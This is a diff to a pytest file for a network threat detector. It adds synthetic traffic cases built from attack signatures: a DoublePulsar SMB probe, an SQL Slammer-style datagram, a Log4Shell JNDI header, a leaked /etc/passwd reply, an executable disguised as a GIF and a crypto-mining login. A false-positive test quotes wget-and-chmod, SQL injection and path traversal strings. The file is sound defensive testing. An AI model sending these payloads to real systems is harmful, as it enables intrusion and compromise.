@@ -108,7 +108,7 @@ def greetings(count):
 
 
 def fillers(count):
-    yield from says(count, b"USER " + b"A" * 1000, 40000, 21)
+    yield from says(count, b"A" * 1000, 40000, 23)
 
 
 def orders(count):
@@ -231,6 +231,34 @@ def registrations(count):
         yield START + n + 0.01, udp(THERE, HERE, 5060, 5060, b"SIP/2.0 403 Forbidden\r\n\r\n")
 
 
+def exploits(count):
+    """DoublePulsar is asked whether it is there."""
+    setup = struct.pack("<BHHHHBBHIHHHHHBBHH", 15, 12, 0, 1, 0, 0, 0, 0, 0, 0, 12, 66, 0, 78, 1, 0, 0x0e, 0)
+    message = b"\xffSMB\x32" + bytes(4) + b"\x18\x07\xc0" + bytes(20) + setup + bytes(12)
+    yield from says(count, struct.pack("!I", len(message)) + message, 40000, 445)
+
+
+def exploit_datagrams(count):
+    for n in range(count):
+        yield START + n, udp(HERE, THERE, 40000, 1434, b"\x04" + b"\x01" * 375)
+
+
+def lookups_for_a_logger(count):
+    yield from says(count, b"GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${${lower:j}ndi:ldap://a/b}\r\n\r\n", 40000, 8080)
+
+
+def spoils(count):
+    yield from says(count, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nroot:x:0:0:root:/root:/bin/bash\n", 80, 40000, THERE, HERE)
+
+
+def disguises(count):
+    yield from says(count, b"HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\n\r\nMZ\x90" + bytes(61), 80, 40000, THERE, HERE)
+
+
+def mining(count):
+    yield from says(count, b'{"id":1,"method":"mining.authorize","params":["a.b","x"]}\n', 40000, 3333)
+
+
 CASES = [(closed_ports, 12, 19, "port_scan", "failed_ports"), (pinged, 9, 18, "port_scan", "silent_hosts"),
          (logins, 28, 32, "brute_force", "login_sessions"), (paths, 70, 130, "web_attack", "request_sizes"),
          (nothing_there, 155, 165, "web_attack", "missing_pages"), (spoofed, 48, 80, "ddos", "unanswered_sources"),
@@ -247,6 +275,9 @@ CASES = [(closed_ports, 12, 19, "port_scan", "failed_ports"), (pinged, 9, 18, "p
          (refused_over_six, 7, 12, "port_scan", "refused_udp_ports"), (phones_looked_for, 24, 45, "port_scan", "failed_hosts"),
          (unasked_replies, 7, 15, "data_exfiltration", "echo_contents"), (replies_of_strangers, 15, 30, "ddos", "reflectors"),
          (passwords_for_a_page, 18, 24, "brute_force", "refused_logins"), (communities, 9, 16, "brute_force", "snmp_communities"),
+         (exploits, 0, 2, "suspicious_tcp", "exploit_messages"), (exploit_datagrams, 0, 2, "suspicious_udp", "exploit_datagrams"),
+         (lookups_for_a_logger, 0, 2, "web_attack", "request_patterns"), (spoils, 0, 2, "web_attack", "spoils"),
+         (disguises, 0, 2, "malware", "disguised_programs"), (mining, 0, 2, "malware", "mining_messages"),
          (datagrams_at_once, 16, 26, "port_scan", "failed_ports"), (registrations, 18, 22, "brute_force", "refused_logins")]
 
 
@@ -334,6 +365,20 @@ def senders_looked_up(count=600):
         yield START + n * 0.05 + 0.001, udp(THERE, HERE, 53, 40000 + n % 5000, dns(f"{n % 250}.{n // 250}.2.10.list.example.com", answer=0x8183))
 
 
-@pytest.mark.parametrize("make", [programs_at_work, senders_looked_up, missing_pictures, idle_connections_closed, one_password_asked_for_again_and_again, negotiations, monitored_agents, pings_seen_one_way])
+def written_about():
+    """What attacks are made of, where people search for it, quote it or hand it on: no order in it is meant for the machine it goes to."""
+    asked = [b"GET /docs/CVE-2021-44228-jndi-lookup.html HTTP/1.1\r\nHost: a\r\n\r\n",
+             b"GET /search?q=java.lang.RuntimeException HTTP/1.1\r\nHost: a\r\nReferer: http://a/?q=../../etc/passwd%20union%20select\r\n\r\n",
+             b"POST /wiki HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n\r\nRun wget http://a/b; chmod 777 b. ' or 1=1 is always true; <script>",
+             b"PUT /notes/a.txt HTTP/1.1\r\nHost: a\r\n\r\n/bin/sh and /etc/shadow"]
+    told = [b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90" + bytes(61),
+            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<pre>root:x:0:0:root:/root:/bin/bash</pre>"]
+    for n in range(12):
+        yield from session(START + n * 3, 40000 + n, 80, asked[n % 4], told[n % 2])
+        yield from says(1, b"The log held ${jndi:ldap://a/b} and C:\\Windows> at its end\r\n", 40100 + n, 25)
+    yield START + 40, udp(HERE, THERE, 40000, 1434, b"\x04SQLEXPRESS\0")
+
+
+@pytest.mark.parametrize("make", [written_about, programs_at_work, senders_looked_up, missing_pictures, idle_connections_closed, one_password_asked_for_again_and_again, negotiations, monitored_agents, pings_seen_one_way])
 def test_what_only_looks_like_it_is_silent(tmp_path, make):
     assert threats(tmp_path, make()) == []
